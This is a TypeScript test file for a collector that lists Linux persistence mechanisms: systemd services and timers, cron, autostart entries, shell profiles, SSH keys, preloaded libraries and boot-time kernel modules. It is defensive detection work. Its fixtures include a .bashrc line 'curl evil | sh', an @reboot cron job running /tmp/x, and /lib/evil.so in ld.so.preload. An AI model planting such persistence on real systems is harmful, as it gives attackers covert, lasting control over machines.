import { rmSync } from 'node:fs'
import { afterEach, expect, test } from 'vitest'
import { fakeRoot, type Lying, told } from '../../testdata/fake-root.ts'
import { persistence } from './persistence.ts'

let root = ''
afterEach(() => rmSync(root, { recursive: true, force: true }))

const passwd = { '/etc/passwd': 'ada:x:1000:1000::/home/ada:/bin/sh\nsync:x:4:4::/bin:/bin/sync\n' }

async function entries(files: Readonly<Record<string, Lying>>) {
  root = fakeRoot({ ...passwd, ...files })
  const { objects, skipped } = await told(persistence, root)
  return { objects, all: Object.values(objects), skipped }
}

test('services that start by themselves, tasks and timers in use persist; what is only installed does not', async () => {
  const { all } = await entries({
    '/usr/lib/systemd/system/on.service': '[Service]\nExecStart=/bin/on',
    '/usr/lib/systemd/system/off.service': '[Service]\nExecStart=/bin/off',
    '/etc/systemd/system/x.target.wants/on.service': { link: '/usr/lib/systemd/system/on.service' },
    '/usr/lib/systemd/system/on.timer': '[Timer]\nOnCalendar=daily',
    '/usr/lib/systemd/system/off.timer': '[Timer]\nOnCalendar=daily',
    '/etc/systemd/system/timers.target.wants/on.timer': { link: '/usr/lib/systemd/system/on.timer' },
    '/etc/rc.local': '#!/bin/sh\n',
    '/etc/crontab': '@reboot root /tmp/x\n',
  })
  expect(all.map(({ kind, name, path, user }) => [kind, name, path, user])).toEqual([
    ['service', 'on.service', '/bin/on', 'root'],
    ['service', 'rc.local', '/etc/rc.local', 'root'],
    ['task', 'crontab', '/tmp/x', 'root'],
    ['task', 'on.timer', '/bin/on', 'root'],
  ])
})

test('autostart entries, shell files and keys belong to the owner of the home', async () => {
  const key = 'AAAAC3NzaC1lZDI1NTE5AAAAIGtleWtleWtleWtleWtleWtleWtleWtleWtleWtleWtl'
  const { all } = await entries({
    '/home/ada/.config/autostart/x.desktop':
      '[Desktop Entry]\nName=X\nExec=/home/ada/.x --daemon\n[Other]\nExec=no\n',
    '/home/ada/.config/autostart/off.desktop': '[Desktop Entry]\nName=Off\nExec=off\nHidden=true\n',
    '/home/ada/.config/autostart/.hid.desktop': '[Desktop Entry]\nExec=/tmp/hid\n',
    '/etc/xdg/autostart/all.desktop': '[Desktop Entry]\nName=All\nExec=all\n',
    '/home/ada/.bashrc': 'curl evil | sh\n',
    '/etc/profile.d/x.sh': '',
    '/home/ada/.ssh/authorized_keys': `# mine\nfrom="10.0.0.0/8",command="/bin/say \\"hi\\"" ssh-ed25519 ${key} ada@home\nnonsense\n`,
  })
  expect(
    all.map(({ kind, name, user, path, command_line }) => [kind, name, user, path, command_line]),
  ).toEqual([
    ['autostart', 'All', null, '??', 'all'],
    ['autostart', '.hid.desktop', 'ada', '/tmp/hid', '/tmp/hid'],
    ['autostart', 'X', 'ada', '/home/ada/.x', '/home/ada/.x --daemon'],
    ['profile', 'x.sh', null, '/etc/profile.d/x.sh', null],
    ['profile', '.bashrc', 'ada', '/home/ada/.bashrc', null],
    ['ssh key', ['ada@home', expect.stringMatching(/^SHA256:[\w+/]{43}$/)], 'ada', null, '/bin/say \\"hi\\"'],
  ])
})

test('homes of accounts that no file of the machine lists are looked into too', async () => {
  const { all } = await entries({ '/home/directory-user/.profile': 'x', '/home/ada/.profile': 'x' })
  expect(all.map(({ file, user }) => [file, user])).toEqual([
    ['/home/ada/.profile', 'ada'],
    ['/home/directory-user/.profile', 'directory-user'],
  ])
})

test('libraries that every program loads and modules that are loaded at each start persist', async () => {
  const { all } = await entries({
    '/etc/ld.so.preload': '/lib/evil.so /lib/more.so\n',
    '/etc/environment': 'PATH=/bin\nLD_PRELOAD="/lib/env.so"\n',
    '/etc/modules-load.d/a.conf': '# none\nloop max_loop=8\n',
    '/usr/lib/modules-load.d/a.conf': 'overridden\n',
    '/proc/sys/kernel/osrelease': '6.1.0\n',
    '/lib/modules/6.1.0/modules.dep': 'kernel/drivers/block/loop.ko.xz:\n',
  })
  expect(all.map(({ kind, name, path, file }) => [kind, name, path, file])).toEqual([
    ['profile', 'environment', '/etc/environment', '/etc/environment'],
    ['preload', '/lib/evil.so', '/lib/evil.so', '/etc/ld.so.preload'],
    ['preload', '/lib/more.so', '/lib/more.so', '/etc/ld.so.preload'],
    ['preload', '/lib/env.so', '/lib/env.so', '/etc/environment'],
    ['module', 'loop', '/lib/modules/6.1.0/kernel/drivers/block/loop.ko.xz', '/etc/modules-load.d/a.conf'],
  ])
})
